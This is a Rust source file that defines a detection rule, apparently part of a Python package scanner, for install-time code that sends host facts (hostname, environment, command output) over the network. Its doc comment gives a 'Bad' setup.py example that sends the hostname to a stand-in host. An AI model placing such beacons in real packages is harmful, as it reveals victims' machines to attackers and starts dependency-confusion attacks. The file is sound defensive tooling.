//! ## What it detects
//!
//! The host name, user name, whole environment or the output of commands, sent over the network by code that nobody called.
//!
//! ## Why it is bad
//!
//! It tells the attacker which machines it reached; dependency-confusion attacks begin with it.
//!
//! ## Innocent lookalikes
//!
//! Telemetry sends the platform when the program runs, not when it is installed or imported.
//!
//! ## Bad
//!
//! ```python setup.py
//! import socket, requests
//! requests.get('http://x.example.invalid/?h=' + socket.gethostname())
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import socket
//! socket.gethostbyname(socket.gethostname() + '.local')
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import socket
//! print(socket.gethostname())
//! ```

use fondaco_python::{Api, Call, Taint, Value};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("host-exfiltration"),
    title: "sends facts about the host out",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.5,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let sends = matches!(call.api, Some(Api::NetworkFetch | Api::NetworkSend)) || looks_up(&call.callee);
        // A variable of its own is how every client is told its server, also while it is installed.
        let facts = Taint::HOST | Taint::COMMAND_OUTPUT | Taint::ALL_VARIABLES;
        // A file by its path, and under which name it is kept.
        let is_receiver = call.callee.starts_with("socket.socket().recv") || call.callee.ends_with(".upload_file");
        let taint = payload(call);
        // Every variable together with who and where one is: no client needs that, whoever calls it.
        let is_survey = taint.has(Taint::ALL_VARIABLES) && taint.has(Taint::HOST);
        let counts = is_survey || call.trigger.is_some_and(Trigger::is_unasked);
        if sends && !is_receiver && counts && taint.has(facts) && !asks_own_address(call) && !own_variable(call) {
            hits.call(unit, call, format!("{} with facts about the host", call.callee));
        }
    }
}

/// `gethostbyname(gethostname())`: how a program learns its own address; nothing leaves. What does
/// leave so stands in front of a domain, and not of the one that is asked for on the own link only
/// (RFC 6762).
fn asks_own_address(call: &Call) -> bool {
    let is_domain =
        |text: &&str| text.contains('.') && text.chars().any(|c| c.is_ascii_alphabetic()) && !text.ends_with(".local");
    let put_together = |host: &Value| {
        host.texts().iter().any(is_domain) || host.taint.has(Taint::DECODED | Taint::DECRYPTED | Taint::NETWORK)
    };
    looks_up(&call.callee) && !call.args.first().is_some_and(put_together)
}

pub(super) fn looks_up(callee: &str) -> bool {
    matches!(callee, "socket.gethostbyname" | "socket.getaddrinfo" | "socket.gethostbyname_ex") || callee.starts_with("dns.resolver.")
}

/// An address or a key that the user has set in a variable.
fn own_variable(call: &Call) -> bool {
    let is_asked = !looks_up(&call.callee) || !call.taint().has(Taint::ALL_VARIABLES);
    is_asked && !call.taint().has(Taint::HOST | Taint::COMMAND_OUTPUT) && !call.texts().iter().any(|t| t.contains("://"))
}

/// Where what is sent comes from; a platform in the headers is what every client tells.
fn payload(call: &Call) -> Taint {
    let of = |value: &Value| {
        value.as_list().unwrap_or_default().iter().fold(value.taint, |taint, item| taint | item.taint)
    };
    let named = call.kwargs.iter().filter(|(key, _)| key != "headers").map(|(_, value)| value);
    // What is saved where is no part of the request.
    let saves = call.callee.ends_with(".urlretrieve") || call.callee == "wget.download";
    let most = if saves { 1 } else { usize::MAX };
    let named = named.filter(|_| !saves);
    call.args.iter().take(most).chain(named).fold(Taint::NONE, |taint, value| taint | of(value))
}
